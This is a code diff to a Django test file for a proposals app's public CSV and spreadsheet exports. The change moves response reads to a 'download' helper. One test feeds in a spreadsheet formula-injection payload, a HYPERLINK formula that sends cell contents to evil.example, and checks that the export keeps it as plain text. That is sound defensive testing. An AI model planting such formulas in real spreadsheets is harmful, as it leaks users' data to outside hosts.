@@ -11,7 +11,7 @@ from openpyxl import load_workbook
 from hyeopchi.proposals import services
 from hyeopchi.proposals.models import Proposal
 from tests.factories import SYSTEM
-from tests.support.helpers import client_for
+from tests.support.helpers import client_for, download
 from tests.support.proposals import Baro, people
 
 pytestmark = pytest.mark.django_db
@@ -55,7 +55,7 @@ def test_supporting_from_the_page_and_the_refusal_message(baro: Baro):
 def test_the_proposal_list_downloads_as_csv_with_korean_headers(baro: Baro):
     baro.recommend("청년 창업 공간 권고", "공유 사무실")
 
-    body = client_for(None).get("/gwangju/proposals.csv").content.decode("utf-8-sig")
+    body = download(client_for(None).get("/gwangju/proposals.csv")).decode("utf-8-sig")
 
     assert body.splitlines()[0].startswith("제안 번호,종류,제목")
     assert body.splitlines()[1].split(",")[2] == "청년 창업 공간 권고"
@@ -113,7 +113,7 @@ def test_an_answer_names_the_person_who_gave_it(baro: Baro):
 def test_a_formula_in_a_title_stays_text_in_the_public_spreadsheet(baro: Baro):
     baro.propose('=HYPERLINK("http://evil.example/?x="&A1,"x")', "제목이 수식입니다.")
 
-    sheet = load_workbook(io.BytesIO(client_for(None).get("/gwangju/proposals.xlsx").content))
+    sheet = load_workbook(io.BytesIO(download(client_for(None).get("/gwangju/proposals.xlsx"))))
     title = sheet.worksheets[0].cell(row=2, column=3)
 
     assert (title.value, title.data_type) == ('\'=HYPERLINK("http://evil.example/?x="&A1,"x")', "s")
